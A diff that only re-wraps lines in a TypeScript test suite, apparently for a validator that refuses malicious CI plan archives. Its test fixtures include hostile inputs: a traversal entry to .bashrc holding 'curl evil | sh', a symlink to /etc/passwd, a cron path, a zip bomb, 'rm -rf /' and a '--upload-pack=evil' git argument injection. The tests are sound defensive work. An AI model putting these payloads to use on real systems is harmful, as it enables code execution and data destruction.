@@ -45,7 +45,8 @@ beforeAll(() => {
   for (const stack of ["prod", "staging"] as const) plans[stack] = planJson(craftPlan(fixtureCatalog(stack, undefined, fresh()), stack));
 });
 
-const review = (over: Record<string, unknown> = {}) => JSON.stringify({ baseSha: git.onMain, headSha: HEAD, stacks: ["prod", "staging"], ...over });
+const review = (over: Record<string, unknown> = {}) =>
+  JSON.stringify({ baseSha: git.onMain, headSha: HEAD, stacks: ["prod", "staging"], ...over });
 const good = (): FakeEntry[] => [
   { name: "review.json", data: review() },
   { name: "prod/plan.json", data: plans.prod },
@@ -74,33 +75,93 @@ describe("the pr-plans artifact", () => {
   });
 
   it.each<[string, () => FakeEntry[], RegExp]>([
-    ["an entry that climbs out with ../", () => [...good(), { name: "../../.bashrc", data: "curl evil | sh" }], /unexpected entries: \.\.\/\.\.\/\.bashrc/],
-    ["a plan path that climbs out", () => [...good(), { name: "prod/../../x/plan.json", data: "{}" }], /unexpected entries: prod\/\.\.\/\.\.\/x\/plan\.json/],
+    [
+      "an entry that climbs out with ../",
+      () => [...good(), { name: "../../.bashrc", data: "curl evil | sh" }],
+      /unexpected entries: \.\.\/\.\.\/\.bashrc/,
+    ],
+    [
+      "a plan path that climbs out",
+      () => [...good(), { name: "prod/../../x/plan.json", data: "{}" }],
+      /unexpected entries: prod\/\.\.\/\.\.\/x\/plan\.json/,
+    ],
     ["an absolute path", () => [...good(), { name: "/etc/cron.d/x", data: "x" }], /unexpected entries: \/etc\/cron\.d\/x/],
     ["a stack nobody asked for", () => [...good(), { name: "evil/plan.json", data: plans.prod }], /unexpected entries: evil\/plan\.json/],
     ["a missing plan", () => good().filter((e) => e.name !== "staging/plan.json"), /missing entries: staging\/plan\.json/],
-    ["a symbolic link", () => [...good().slice(0, 2), { name: "staging/plan.json", data: "/etc/passwd", unixMode: 0o120777 }], /staging\/plan\.json: symbolic links are not accepted/],
+    [
+      "a symbolic link",
+      () => [...good().slice(0, 2), { name: "staging/plan.json", data: "/etc/passwd", unixMode: 0o120777 }],
+      /staging\/plan\.json: symbolic links are not accepted/,
+    ],
     ["a name twice", () => [...good(), { name: "prod/plan.json", data: plans.prod }], /prod\/plan\.json: appears twice in the archive/],
     ["an encrypted entry", () => [{ ...good()[0], flags: 1 }, ...good().slice(1)], /review\.json: encrypted entries are not accepted/],
-    ["a bomb that inflates past its declared size", () => [{ name: "review.json", data: "x".repeat(4 << 20), declaredSize: 100 }], /review\.json: does not inflate to its declared 100 bytes/],
-    ["an entry declared over the cap", () => [{ name: "review.json", data: "{}", declaredSize: ARTIFACT_LIMITS.maxEntryBytes + 1 }], /over the cap/],
+    [
+      "a bomb that inflates past its declared size",
+      () => [{ name: "review.json", data: "x".repeat(4 << 20), declaredSize: 100 }],
+      /review\.json: does not inflate to its declared 100 bytes/,
+    ],
+    [
+      "an entry declared over the cap",
+      () => [{ name: "review.json", data: "{}", declaredSize: ARTIFACT_LIMITS.maxEntryBytes + 1 }],
+      /over the cap/,
+    ],
     ["a corrupted entry", () => [{ ...good()[0], crc: 12345 }, ...good().slice(1)], /review\.json: CRC mismatch/],
-    ["a method other than stored or deflate", () => [{ ...good()[0], method: 12 }, ...good().slice(1)], /compression method 12 is not accepted/],
+    [
+      "a method other than stored or deflate",
+      () => [{ ...good()[0], method: 12 }, ...good().slice(1)],
+      /compression method 12 is not accepted/,
+    ],
     ["a name that is not printable ASCII", () => [...good(), { name: "prod\u202e/plan.json", data: "{}" }], /not printable ASCII/],
-    ["a plan that is not JSON", () => [good()[0], { name: "prod/plan.json", data: "{oops" }, good()[2]], /prod\/plan\.json: is not valid JSON/],
-    ["a plan of the wrong shape", () => [good()[0], { name: "prod/plan.json", data: '{"resources":{}}' }, good()[2]], /prod\/plan\.json: is malformed/],
-    ["another stack's plan in a stack's place", () => [good()[0], { name: "prod/plan.json", data: plans.staging }, good()[2]], /prod\/plan\.json is the plan of stack "staging"/],
+    [
+      "a plan that is not JSON",
+      () => [good()[0], { name: "prod/plan.json", data: "{oops" }, good()[2]],
+      /prod\/plan\.json: is not valid JSON/,
+    ],
+    [
+      "a plan of the wrong shape",
+      () => [good()[0], { name: "prod/plan.json", data: '{"resources":{}}' }, good()[2]],
+      /prod\/plan\.json: is malformed/,
+    ],
+    [
+      "another stack's plan in a stack's place",
+      () => [good()[0], { name: "prod/plan.json", data: plans.staging }, good()[2]],
+      /prod\/plan\.json is the plan of stack "staging"/,
+    ],
     [
       "a plan of another project",
-      () => [good()[0], { name: "prod/plan.json", data: plans.prod.replace('"project": "llm-observability"', '"project": "other"') }, good()[2]],
+      () => [
+        good()[0],
+        { name: "prod/plan.json", data: plans.prod.replace('"project": "llm-observability"', '"project": "other"') },
+        good()[2],
+      ],
       /a plan of project "other"/,
     ],
     ["a review that is not JSON", () => [{ name: "review.json", data: "nope" }, ...good().slice(1)], /review\.json is not valid JSON/],
-    ["a review with more to say", () => [{ name: "review.json", data: review({ run: "rm -rf /" }) }, ...good().slice(1)], /must have exactly baseSha, headSha and stacks/],
-    ["a review whose base is not a commit id", () => [{ name: "review.json", data: review({ baseSha: "--upload-pack=evil" }) }, ...good().slice(1)], /baseSha must be a 40-character commit id/],
-    ["a review of other stacks", () => [{ name: "review.json", data: review({ stacks: ["prod"] }) }, ...good().slice(1)], /review\.json lists stacks prod; expected prod, staging/],
-    ["a review made for another head", () => [{ name: "review.json", data: review({ headSha: "c".repeat(40) }) }, ...good().slice(1)], /review\.json is for head c{40}, but the run was for b{40}/],
-    ["a base commit that is not on the base branch", () => [{ name: "review.json", data: review({ baseSha: git.offMain }) }, ...good().slice(1)], /base commit [0-9a-f]{40} is not part of main/],
+    [
+      "a review with more to say",
+      () => [{ name: "review.json", data: review({ run: "rm -rf /" }) }, ...good().slice(1)],
+      /must have exactly baseSha, headSha and stacks/,
+    ],
+    [
+      "a review whose base is not a commit id",
+      () => [{ name: "review.json", data: review({ baseSha: "--upload-pack=evil" }) }, ...good().slice(1)],
+      /baseSha must be a 40-character commit id/,
+    ],
+    [
+      "a review of other stacks",
+      () => [{ name: "review.json", data: review({ stacks: ["prod"] }) }, ...good().slice(1)],
+      /review\.json lists stacks prod; expected prod, staging/,
+    ],
+    [
+      "a review made for another head",
+      () => [{ name: "review.json", data: review({ headSha: "c".repeat(40) }) }, ...good().slice(1)],
+      /review\.json is for head c{40}, but the run was for b{40}/,
+    ],
+    [
+      "a base commit that is not on the base branch",
+      () => [{ name: "review.json", data: review({ baseSha: git.offMain }) }, ...good().slice(1)],
+      /base commit [0-9a-f]{40} is not part of main/,
+    ],
   ])("is refused for %s, and nothing is written.", (_case, entries, message) => {
     const { call, out } = accept(entries());
     expect(call).toThrow(ArtifactError);
